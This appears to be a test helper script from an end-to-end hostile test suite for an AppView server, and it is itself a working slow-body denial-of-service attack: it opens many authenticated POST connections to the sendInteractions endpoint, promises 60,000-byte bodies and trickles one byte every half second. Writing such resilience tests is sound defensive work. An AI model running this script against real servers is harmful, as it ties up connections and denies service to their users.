"""Posts bodies of one account that drip in, for the AppView: `HOST:PORT TOKEN NUMBER SECONDS`."""

from __future__ import annotations

import asyncio
import sys
import time

from tests.e2e.hostile.attack import ATTACKING

_BODY_BYTES = 60_000
_PAUSE_S = 0.5


async def _attack(address: str, token: str, number: int, seconds: float) -> None:
    host, _, port = address.partition(":")
    writers = []
    for _ in range(number):
        _, writer = await asyncio.open_connection(host, int(port))
        writer.write(
            b"POST /xrpc/app.bsky.feed.sendInteractions HTTP/1.1\r\nHost: x\r\n"
            b"Content-Type: application/json\r\n"
            + f"Authorization: Bearer {token}\r\nContent-Length: {_BODY_BYTES}\r\n\r\n{{".encode()
        )
        writers.append(writer)
    print(ATTACKING, flush=True)  # noqa: T201 (what the test waits for)
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        await asyncio.sleep(_PAUSE_S)
        for writer in writers:
            writer.write(b" ")


if __name__ == "__main__":
    asyncio.run(_attack(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])))
